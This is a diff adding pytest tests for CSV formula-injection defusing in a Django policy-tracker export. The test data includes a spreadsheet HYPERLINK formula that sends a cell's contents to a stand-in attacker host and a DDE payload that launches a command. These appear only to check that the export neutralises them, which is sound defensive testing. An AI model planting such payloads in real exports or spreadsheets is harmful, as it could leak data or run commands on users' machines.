@@ -10,7 +10,7 @@ import pytest
 from django.urls import reverse
 
 from policies import export_views
-from policies.exports import CSV_COLUMNS, jurisdiction_paths
+from policies.exports import CSV_COLUMNS, defuse_formula, jurisdiction_paths
 from policies.models import EditorialState, Jurisdiction, Organisation, PolicyAction
 from tests.factories import (
     ArticleFactory,
@@ -133,6 +133,48 @@ def test_json_sources_carry_headlines_urls_and_quotes_but_never_article_text(
             "url": "http://testserver/organisations/minneapolis-city-council/",
         }
     ]
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1, "Click")'
+
+
+def test_csv_cells_that_start_like_a_formula_are_defused(client):
+    place = JurisdictionFactory(name="@SUM(A1:A9)", slug="-place", iso_code="+1")
+    action = PolicyActionFactory(
+        title=FORMULA, slug="-1-action", summary="\t=1+1", jurisdiction=place
+    )
+    ParticipantFactory(action=action, organisation=OrganisationFactory(name="\r=cmd|' /C calc'!A0"))
+    CitationFactory(action=action)
+    [row] = csv_rows(client, "")
+    assert row["title"] == "'" + FORMULA
+    assert row["slug"] == "'-1-action"
+    assert row["summary"] == "'\t=1+1"
+    assert row["jurisdiction"] == "'-place"
+    assert row["jurisdiction_name"] == "'@SUM(A1:A9)"
+    assert row["jurisdiction_path"] == "'-place"
+    assert row["jurisdiction_iso_code"] == "'+1"
+    assert row["organisations"] == "'\r=cmd|' /C calc'!A0 (actor)"
+    # Dates, codes and addresses cannot start a formula, and are left exactly as they are.
+    assert (row["date"], row["type"], row["url"]) == (
+        "2021-02-12",
+        "ban",
+        "http://testserver/actions/-1-action/",
+    )
+    assert row["published_at"][0].isdigit()
+
+
+def test_the_json_download_keeps_the_exact_text_the_csv_defuses(client):
+    PolicyActionFactory(title=FORMULA, summary="-2 councils voted")
+    [record] = json_export(client, "")["actions"]
+    assert (record["title"], record["summary"]) == (FORMULA, "-2 councils voted")
+
+
+def test_text_that_only_contains_a_formula_character_is_left_alone():
+    assert defuse_formula("Ban on face recognition = safer streets") == (
+        "Ban on face recognition = safer streets"
+    )
+    for trigger in ("=", "+", "-", "@", "\t", "\r"):
+        assert defuse_formula(f"{trigger}1") == f"'{trigger}1"
 
 
 def test_timelinejs_is_oldest_first_and_escapes_imported_text(client):
